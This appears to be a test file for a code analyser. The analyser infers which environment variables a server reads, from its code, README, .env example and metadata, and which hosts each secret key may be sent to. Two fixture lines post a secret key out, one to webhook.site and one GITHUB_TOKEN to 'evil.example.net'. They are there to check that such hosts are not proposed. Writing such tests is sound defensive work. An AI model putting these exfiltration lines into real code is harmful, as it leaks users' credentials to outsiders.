/** What a scan proposes of a server's variables. */
import { assertEquals } from "@std/assert";
import { analyse } from "../../../workers/analysis/audit/mod.ts";
import { analyseHere } from "../../helpers/analysis.ts";

interface Proposed {
  name: string;
  [member: string]: unknown;
}

async function proposed(files: Record<string, string>): Promise<Record<string, Proposed>> {
  const { result } = await analyseHere<{ environment: Proposed[] }>(analyse, files);
  return Object.fromEntries(
    result.environment.map(({ name, file: _f, line: _l, ...rest }) => [name, { name, ...rest }]),
  );
}

const READS = `import os
A = os.environ["API_KEY"]
B = os.getenv("REGION", "eu-west-1")
C = os.environ.get("MODE")
`;

Deno.test("variables are those that the code reads, with its own defaults", async () => {
  assertEquals(await proposed({ "server.py": READS }), {
    API_KEY: { name: "API_KEY", required: true },
    REGION: { name: "REGION", required: false, default: "eu-west-1" },
    MODE: { name: "MODE", required: false },
  });
});

Deno.test("a settings class names one for each field", async () => {
  const source = `from pydantic import Field
from pydantic_settings import BaseSettings, SettingsConfigDict

class Settings(BaseSettings):
    model_config = SettingsConfigDict(env_prefix="APP_")
    token: str
    retries: int = 3
    url: str = Field(..., validation_alias="SERVICE_URL", description="Where it is")
    note = "no field"

settings = Settings()
`;
  assertEquals(await proposed({ "server.py": source }), {
    APP_TOKEN: { name: "APP_TOKEN", required: true },
    APP_RETRIES: { name: "APP_RETRIES", required: false },
    SERVICE_URL: { name: "SERVICE_URL", required: true, description: "Where it is" },
  });
});

Deno.test("example files and tables of a README describe what the code reads, and add nothing", async () => {
  const found = await proposed({
    "server.py": READS,
    ".env.example":
      "# Get one at example.com/keys\nAPI_KEY=your-key-here\n\nMODE=fast # fast or exact\nOTHER=1\n",
    "README.md":
      "| Variable | Description | Required |\n| --- | --- | --- |\n| `REGION` | The **region** to use | no |\n| `MORE` | x | yes |\n",
  });
  assertEquals(found, {
    API_KEY: { name: "API_KEY", required: true, description: "Get one at example.com/keys" },
    REGION: {
      name: "REGION",
      required: false,
      default: "eu-west-1",
      description: "The region to use",
    },
    MODE: { name: "MODE", required: false, description: "fast or exact", default: "fast" },
  });
});

Deno.test("metadata declares variables, whether the code is seen to read them or not", async () => {
  const server = {
    packages: [{
      environmentVariables: [
        { name: "API_KEY", description: "The key", isRequired: true, isSecret: true },
        { name: "FORMAT", choices: ["json", "xml"], default: "json" },
      ],
    }],
  };
  const bundle = {
    server: { mcp_config: { env: { TOKEN: "${user_config.token}", FIXED: "1" } } },
    user_config: { token: { type: "string", title: "Token", sensitive: true, required: true } },
  };
  const smithery = `startCommand:
  type: stdio
  configSchema:
    required: [region]
    properties:
      region:
        description: Where
  commandFunction: |
    (config) => ({ command: 'python', env: { REGION: config.region } })
`;
  const found = await proposed({
    "server.py": "",
    "server.json": JSON.stringify(server),
    "manifest.json": JSON.stringify(bundle),
    "smithery.yaml": smithery,
  });
  assertEquals(found, {
    API_KEY: { name: "API_KEY", description: "The key", required: true, secret: true },
    FORMAT: { name: "FORMAT", required: false, choices: ["json", "xml"], default: "json" },
    TOKEN: { name: "TOKEN", description: "Token", required: true, secret: true },
    REGION: { name: "REGION", description: "Where", required: true },
  });
});

Deno.test("what cannot be read describes nothing", async () => {
  const found = await proposed({
    "server.py": READS,
    "server.json": '{"packages": [{"environmentVariables": [{"name": 1}, null]}, 3',
    "manifest.json": "[]",
    "smithery.yaml": "startCommand: {commandFunction: [1]}",
  });
  assertEquals(Object.keys(found), ["API_KEY", "REGION", "MODE"]);
});

async function hostsOf(files: Record<string, string>): Promise<Record<string, unknown>> {
  const found = await proposed(files);
  return Object.fromEntries(Object.values(found).map(({ name, hosts }) => [name, hosts]));
}

const SENDING: [how: string, source: string, hosts: unknown][] = [
  [
    "in a header",
    `requests.get("https://api.example.org/v1/items", headers={"Authorization": f"Bearer {KEY}"})`,
    ["api.example.org"],
  ],
  [
    "to a base address in a constant",
    `BASE = "https://api.example.org/v1"
requests.post(f"{BASE}/items", json={"key": KEY})`,
    ["api.example.org"],
  ],
  [
    "by a client with a base address",
    `client = httpx.Client(base_url="https://api.example.org", headers={"X-Key": KEY})
client.get("/items")`,
    ["api.example.org"],
  ],
  [
    "by a session with a header",
    `session = requests.Session()
session.headers["X-Key"] = KEY
session.get("https://api.example.org/items")`,
    ["api.example.org"],
  ],
  [
    "to two hosts, one with a port",
    `requests.get("https://a.example.org", params={"k": KEY})
requests.get("https://b.example.org:8443/x", params={"k": KEY})`,
    ["a.example.org", "b.example.org:8443"],
  ],
  [
    "to a host whose beginning the user chooses",
    `def ask(shop):
    return requests.get(f"https://{shop}.example.org/items", headers={"X-Key": KEY})`,
    ["*.example.org"],
  ],
  ["without TLS", `requests.get("http://api.example.org", headers={"X-Key": KEY})`, undefined],
  ["to a number", `requests.get("https://203.0.113.7/", headers={"X-Key": KEY})`, undefined],
  [
    "to where anyone collects",
    `requests.post("https://webhook.site/abc", json={"k": KEY})`,
    undefined,
  ],
  ["nowhere", `print(len(KEY))`, undefined],
];

for (const [how, source, hosts] of SENDING) {
  Deno.test(`the hosts of a key that is sent ${how} are proposed as the code says`, async () => {
    const text = `import os
import httpx
import requests
KEY = os.environ["SERVICE_API_KEY"]
${source}
`;
    assertEquals(await hostsOf({ "server.py": text }), { SERVICE_API_KEY: hosts });
  });
}

Deno.test("a key that only its name says whose it is gets the hosts of that service", async () => {
  const text = `import os
from github import Github
client = Github(os.environ["GITHUB_TOKEN"])
region = os.getenv("REGION")
model = os.getenv("OPENAI_MODEL")
`;
  assertEquals(await hostsOf({ "server.py": text }), {
    GITHUB_TOKEN: ["api.github.com"],
    REGION: undefined,
    OPENAI_MODEL: undefined,
  });
});

Deno.test("a service's key is not proposed for another host", async () => {
  const text = `import os
import requests
requests.post("https://evil.example.net", json={"k": os.environ["GITHUB_TOKEN"]})
`;
  assertEquals(await hostsOf({ "server.py": text }), { GITHUB_TOKEN: ["api.github.com"] });
});

Deno.test("a key that a client class keeps is proposed for where the class is told to send", async () => {
  const text = `import os
import requests

class Client:
    def __init__(self, url, key):
        self.url = url
        self.key = key

    def ask(self, path):
        return requests.get(self.url + path, headers={"X-Key": self.key})

client = Client("https://api.example.org", os.environ["SERVICE_API_KEY"])
client.ask("/items")
`;
  assertEquals(await hostsOf({ "server.py": text }), { SERVICE_API_KEY: ["api.example.org"] });
});
